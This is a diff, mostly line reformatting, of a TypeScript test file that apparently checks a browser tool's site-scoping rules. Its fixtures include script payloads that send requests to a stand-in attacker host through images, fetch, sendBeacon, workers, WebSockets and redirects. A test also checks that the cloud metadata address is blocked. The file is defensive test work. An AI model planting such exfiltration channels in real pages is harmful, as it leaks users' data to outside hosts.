@@ -16,7 +16,9 @@ beforeAll(async () => {
     hits.push(`${request.method ?? ""} ${at}`);
     const answer = pages.get(at);
     if (answer !== undefined) return answer(response);
-    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" }).end(`<title>${at}</title><p>at ${at}`);
+    response
+      .writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
+      .end(`<title>${at}</title><p>at ${at}`);
   });
   await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
   const address = server.address();
@@ -32,7 +34,10 @@ function html(at: string, body: string): void {
 }
 
 function redirect(at: string, to: string, status = 302): void {
-  pages.set(at, (response) => void response.writeHead(status, { location: to, "access-control-allow-origin": "*" }).end());
+  pages.set(
+    at,
+    (response) => void response.writeHead(status, { location: to, "access-control-allow-origin": "*" }).end(),
+  );
 }
 
 function hitsOf(host: string): readonly string[] {
@@ -69,7 +74,10 @@ describe("a site in scope", () => {
   test("a navigation out of scope leaves the page where it is, and nothing arrives", async () => {
     await session.call("navigate", { url: "http://shop.test/stays" });
     const { envelope } = await session.call("navigate", { url: "http://other.test/" });
-    expect(envelope).toMatchObject({ ok: false, refused: { rule: "reach.site", site: "other.test", operator: "--allow other.test" } });
+    expect(envelope).toMatchObject({
+      ok: false,
+      refused: { rule: "reach.site", site: "other.test", operator: "--allow other.test" },
+    });
     expect(JSON.stringify((await session.call("get_text", {})).envelope)).toContain("at shop.test/stays");
     expect(hitsOf("other.test")).toEqual([]);
   });
@@ -81,7 +89,11 @@ describe("a site in scope", () => {
     ["a form post that is sent on", `<form method="post" action="/on307"><button>Go</button></form>`, "click"],
     ["a popup that is sent on", `<a target="_blank" href="/on">Go</a>`, "click"],
     ["a picture that is sent on", `<img src="/on">`, "load"],
-    ["a picture of a script", `<script>const i = new Image(); i.src = "${EVIL}/script.png"; document.head.append(i)</script>`, "load"],
+    [
+      "a picture of a script",
+      `<script>const i = new Image(); i.src = "${EVIL}/script.png"; document.head.append(i)</script>`,
+      "load",
+    ],
     [
       "a picture in a style of a script",
       `<p>x<script>document.body.insertAdjacentHTML("beforeend", '<style>p{background:url(${EVIL}/bg)}</style>')</script>`,
@@ -90,18 +102,32 @@ describe("a site in scope", () => {
     ["a fetch", `<script>fetch("${EVIL}/fetch", { mode: "no-cors" }).catch(() => {})</script>`, "load"],
     ["a fetch that is sent on", `<script>fetch("/on", { mode: "no-cors" }).catch(() => {})</script>`, "load"],
     ["a beacon", `<script>navigator.sendBeacon("${EVIL}/beacon", "x")</script>`, "load"],
-    ["a worker's fetch", `<script>new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/worker", {mode:"no-cors"})'])))</script>`, "load"],
+    [
+      "a worker's fetch",
+      `<script>new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/worker", {mode:"no-cors"})'])))</script>`,
+      "load",
+    ],
     ["a socket", `<script>new WebSocket("ws://evil.test/socket")</script>`, "load"],
-    ["a script's own navigation", `<script>addEventListener("load", () => { location = "${EVIL}/location"; })</script>`, "load"],
+    [
+      "a script's own navigation",
+      `<script>addEventListener("load", () => { location = "${EVIL}/location"; })</script>`,
+      "load",
+    ],
   ])("%s reaches no other site, and does where a rule opens it", async (what, body, how) => {
     redirect("shop.test/on", `${EVIL}/sent-on`);
     redirect("shop.test/on307", `${EVIL}/sent-on`, 307);
     const path = `/p-${what.replaceAll(/[^a-z]/g, "")}`;
-    html(`shop.test${path}`, `<title>stays</title><p>words${body}<script>addEventListener("load", () => setTimeout(() => fetch("/fence"), 300))</script>`);
+    html(
+      `shop.test${path}`,
+      `<title>stays</title><p>words${body}<script>addEventListener("load", () => setTimeout(() => fetch("/fence"), 300))</script>`,
+    );
     const visit = async (by: OpenedSession): Promise<string> => {
       hits.length = 0;
       const opened = await by.call("navigate", { url: `http://shop.test${path}` });
-      const done = how === "load" ? opened : await by.call("click", { target: body.includes("<button") ? 'button "Go"' : 'link "Go"' });
+      const done =
+        how === "load"
+          ? opened
+          : await by.call("click", { target: body.includes("<button") ? 'button "Go"' : 'link "Go"' });
       return JSON.stringify(done.envelope);
     };
     const told = await visit(session);
@@ -171,9 +197,16 @@ describe("no scope given", () => {
 
 describe("all kinds bound, and assets closed", () => {
   test("nothing of another site loads", async () => {
-    await using session = await open({ allow: ["shop.test"], assets: "closed", reach: ["navigation", "data", "subresource", "subframe"] });
+    await using session = await open({
+      allow: ["shop.test"],
+      assets: "closed",
+      reach: ["navigation", "data", "subresource", "subframe"],
+    });
     hits.length = 0;
-    html("shop.test/bound", `<p>words<img src="http://cdn.test/b.png"><iframe src="http://frame.test/"></iframe><script src="http://cdn.test/c.js"></script>`);
+    html(
+      "shop.test/bound",
+      `<p>words<img src="http://cdn.test/b.png"><iframe src="http://frame.test/"></iframe><script src="http://cdn.test/c.js"></script>`,
+    );
     expect((await session.call("navigate", { url: "http://shop.test/bound" })).envelope.snapshot).toContain("words");
     expect(hits).toEqual(expect.arrayContaining(["GET shop.test/bound"]));
     expect([...hitsOf("cdn.test"), ...hitsOf("frame.test")]).toEqual([]);
@@ -184,7 +217,9 @@ describe("profile observe", () => {
   test("lets other sites go and writes them down", async () => {
     await using session = await open({ allow: ["shop.test"], profile: "observe" });
     expect((await session.call("navigate", { url: "http://other.test/" })).envelope.ok).toBe(true);
-    expect((await session.call("navigate", { url: "http://169.254.169.254/" })).envelope.refused?.rule).toBe("reach.metadata");
+    expect((await session.call("navigate", { url: "http://169.254.169.254/" })).envelope.refused?.rule).toBe(
+      "reach.metadata",
+    );
     expect(session.instructions).toContain("recorded and not refused");
   });
 });
